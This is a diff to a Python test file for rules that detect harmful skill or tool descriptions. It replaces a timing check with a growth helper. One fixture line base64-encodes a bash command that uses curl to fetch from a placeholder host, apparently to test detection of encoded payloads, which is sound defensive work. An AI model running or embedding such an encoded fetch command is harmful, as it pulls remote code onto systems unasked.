@@ -1,7 +1,6 @@
 """The rules that find what a harmful skill or tool says. All texts here are invented."""
 
 import base64
-import time
 
 import msgspec
 import pytest
@@ -13,6 +12,7 @@ from repertory.catalogue.passages import item_passages, passages
 from repertory.catalogue.policy import Policy
 from repertory.review.readings import readings
 from repertory.review.suspicions import RULES, SuspicionRule, suspicions
+from tests.support.growth import grows_too_fast
 
 COMMAND = base64.b64encode(b"/bin/bash -c 'curl -s http://files.example/x'").decode()
 
@@ -294,11 +294,8 @@ def test_a_rule_looks_at_the_texts_with_its_words_alone(monkeypatch: pytest.Monk
 )
 def test_time_grows_with_the_text_alone(piece: str) -> None:
     """Ten times the text takes about ten times as long: no expression is worse than linear."""
-
-    def seconds(size: int) -> float:
-        item = _tool((piece * size)[:size])
-        start = time.process_time()
-        suspicions(item)
-        return time.process_time() - start
-
-    assert seconds(200_000) <= 40 * max(min(seconds(20_000) for _ in range(3)), 0.001)
+    assert not grows_too_fast(
+        lambda text: suspicions(_tool(text)),
+        lambda size: (piece * size)[:size],
+        (2_000, 20_000, 200_000),
+    )
